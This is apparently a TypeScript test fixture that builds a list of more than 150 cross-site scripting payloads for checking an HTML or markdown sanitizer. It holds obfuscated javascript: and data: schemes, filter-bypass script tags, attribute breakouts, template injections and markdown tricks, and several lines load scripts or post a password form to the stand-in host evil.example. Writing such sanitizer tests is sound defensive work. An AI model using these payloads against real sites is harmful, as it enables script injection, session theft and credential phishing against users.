// What people have found to make pages run a text of theirs, by the way in which it works. Written for our tests, after
// public descriptions of the ways. Each would call alert, or ask another host.

const EVENTS = [
  'onerror src=x',
  'onload',
  'onfocus autofocus tabindex=1',
  'onmouseover',
  'ontoggle open',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'onscroll',
  'oncontentvisibilityautostatechange',
  'onpageshow',
  'onauxclick',
];
const TAGS = ['img', 'svg', 'body', 'video', 'details', 'input', 'math', 'iframe'];
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'java\u0000script:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea>*/alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '/\t/evil.example/x',
  'https:evil.example',
];

/** An attribute that acts by itself, on one tag after another. */
const byEvents = EVENTS.flatMap((event, at) => {
  const [name = '', ...rest] = event.split(' ');
  return [0, 3].map((step) => `<${TAGS[(at + step) % TAGS.length]} ${rest.join(' ')} ${name}=alert(1)>`);
});

/** An address that runs, in each syntax that makes a link or loads something. */
const byAddresses = SCHEMES.flatMap((scheme, at) => [
  `[look](${scheme})`,
  [`<a href="${scheme}">look</a>`, `![look](${scheme})`, `<${scheme}>`, `[look]: ${scheme}\n\n[look]`][
    at % 4
  ] as string,
]);

/** Scripts, in spellings that filters have overlooked. */
const byScripts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(1)//',
  '<<script>alert(1)//<</script>',
  '<script type=module>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml <script>alert(1)</script> ?>',
];

/** Out of the place where a value stands: an attribute, a title, a style, a field, a script of data. */
const byBreakingOut = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onfocus=alert(1) autofocus x="',
  "' onfocus=alert(1) autofocus x='",
  '` onfocus=alert(1) autofocus',
  '"/><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</noscript><img src=x onerror=alert(1)>',
  '</svg><img src=x onerror=alert(1)>',
  '-->"<img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '\\"-alert(1)}//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody else's template.
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '"}]};alert(1);//',
  "');alert(1);//",
  '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  '\ue0000\ue001<img src=x onerror=alert(1)>',
  '\ue00099999\ue001',
  '\ufeff"><img src=x onerror=alert(1)>',
  '\u2028</script><img src=x onerror=alert(1)>',
];

/** Elements that load, lead away, or change what the rest of the page means. */
const byElements = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=prefetch href=//evil.example/x>',
  '<style>@import "//evil.example/x";</style>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<div style="background:url(//evil.example/x)">',
  '<p style="position:fixed;inset:0">over</p>',
  '<img src=//evil.example/x.png>',
  '<img srcset="//evil.example/x 1x">',
  '<picture><source srcset=//evil.example/x><img></picture>',
  '<video poster=//evil.example/x src=//evil.example/y></video>',
  '<audio src=//evil.example/x autoplay></audio>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form action=//evil.example/><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)" form=find>go</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="//evil.example/x.svg#x"/></svg>',
  '<svg><set attributeName=href to="javascript:alert(1)"/></svg>',
  '<svg><image href="//evil.example/x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<table background=//evil.example/x>',
  '<template><script>alert(1)</script></template>',
  '<portal src=//evil.example/>',
  '<a id=main>clobbered</a>',
  '<a name=body href=x:alert(1)>',
  '<form id=document><input name=cookie></form>',
  '<dialog open>Your session has ended</dialog>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext>',
  '<textarea><img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img src=x onerror=alert`1`>',
];

/** Markdown that parsers have taken for more than it is. */
const byMarkdown = [
  '[a](<javascript:alert(1)>)',
  '[a](javascript:alert(1) "title")',
  '[a](x "\\" onmouseover=alert(1) y=\\"")',
  '![a](x "\\" onerror=alert(1) y=\\"")',
  '![" onerror="alert(1)](x)',
  '![a](//evil.example/x.png)',
  '![a](https://evil.example/x.png)',
  '[![a](https://evil.example/x)](javascript:alert(1))',
  '[a](x){onclick=alert(1)}',
  '<javascript:alert(1)>',
  '<a@evil.example"onclick=alert(1)>',
  '[a][1]\n\n[1]: javascript:alert(1)',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '~~~ " onmouseover=alert(1) "\nx\n~~~',
  '# <img src=x onerror=alert(1)> {#"><script>}',
  '- [ ] <img src=x onerror=alert(1)> (@"><script>alert(1)</script>, due 2026-03-01)',
  '| <img src=x onerror=alert(1)> |\n|:-"onclick=alert(1)-|\n| <script>alert(1)</script> |',
  '> <script>alert(1)</script>',
  '1. <details open ontoggle=alert(1)>',
  '<br onclick=alert(1)>',
  '<br/onload=alert(1)/>',
  '<!-- --><img src=x onerror=alert(1)><!-- -->',
  '<!-- private --><script>alert(1)</script><!-- /private -->',
  'https://evil.example/"onmouseover="alert(1)',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '[x](https://good.example@evil.example/\u202e)',
];

/** All of them: more than 150. */
export const HOSTILE: readonly string[] = [
  ...byEvents,
  ...byAddresses,
  ...byScripts,
  ...byBreakingOut,
  ...byElements,
  ...byMarkdown,
];
